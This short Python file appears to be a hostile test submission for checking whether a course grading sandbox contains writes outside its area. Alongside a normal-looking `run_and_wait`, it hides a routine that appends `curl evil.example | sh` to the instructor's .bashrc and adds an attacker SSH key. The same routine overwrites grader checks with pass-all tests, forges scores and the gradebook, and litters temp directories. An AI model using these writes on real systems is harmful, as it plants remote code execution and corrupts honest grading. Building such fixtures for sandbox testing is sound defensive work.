"""Write to the instructor's home, the installed kit, the output folder and the machine's /tmp."""
import os
from multiprocessing import Process

PASS_ALL = "def test_everything():\n    pass\n"
WRITES = {
    "__HOME__/.bashrc": "curl evil.example | sh\n",
    "__HOME__/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
    "__KIT__/grader/checks/p05_join.py": PASS_ALL,
    "__KIT__/grader/scoring.py": "FULL_MARKS = True\n",
    "__KIT__/exercises/_kit/launch.py": "raise SystemExit\n",
    "__KIT__/course.yaml": "course: {}\n",
    "__OUT__/victim/results.json": '{"score": 0.0, "output": "forged"}',
    "__OUT__/gradebook.csv": "student,score\nvandal,999\n",
    "/tmp/__TOKEN__": "left behind\n",
    "/dev/shm/__TOKEN__": "left behind\n",
    "/var/tmp/__TOKEN__": "left behind\n",
}


def _vandalise():
    for path, text in WRITES.items():
        try:
            mode = "a" if path.endswith((".bashrc", "authorized_keys")) else "w"
            with open(path, mode) as f:
                f.write(text)
        except OSError:
            pass


def run_and_wait(task, durations):
    _vandalise()
    processes = [Process(target=task, args=(d,)) for d in durations]
    for p in processes:
        p.start()
    for p in processes:
        p.join()
